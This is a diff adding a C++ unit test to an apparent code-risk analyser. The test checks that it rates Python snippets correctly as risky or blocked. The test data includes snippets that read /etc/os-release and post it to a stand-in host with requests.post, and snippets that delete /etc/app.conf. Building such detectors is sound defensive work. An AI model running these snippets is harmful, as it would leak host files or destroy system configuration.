@@ -128,3 +128,18 @@ TEST(AssessBindings, ADataclassFieldsDefaultFactoryIsItsValue) {
   EXPECT_EQ(level(cleaner("/var/lib/dpkg/status")), RiskLevel::blocked);
   EXPECT_EQ(level(cleaner("build/status")), RiskLevel::medium);
 }
+
+TEST(AssessBindings, ATablesItemByAConstantKeyIsThatItem) {
+  // SOURCES["release"] is the path it holds: open() reads it, a host file posted.
+  EXPECT_EQ(level("import requests\nfrom pathlib import Path\nSOURCES = {'release': Path('/etc') / 'os-release'}\n"
+                  "requests.post('https://x.example/a', data=SOURCES['release'].read_text())\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nP = {'a': '/etc/os-release'}\n"
+                  "requests.post('https://x.example/a', data=open(P['a']).read())\n"),
+            RiskLevel::high);
+  // Another item of a table that holds a system path is not one.
+  EXPECT_EQ(level("import os\nP = {'conf': '/etc/app.conf', 'out': 'out.txt'}\nos.remove(P['out'])\n"),
+            RiskLevel::medium);
+  EXPECT_EQ(level("import os\nP = {'conf': '/etc/app.conf', 'out': 'out.txt'}\nos.remove(P['conf'])\n"),
+            RiskLevel::blocked);
+}
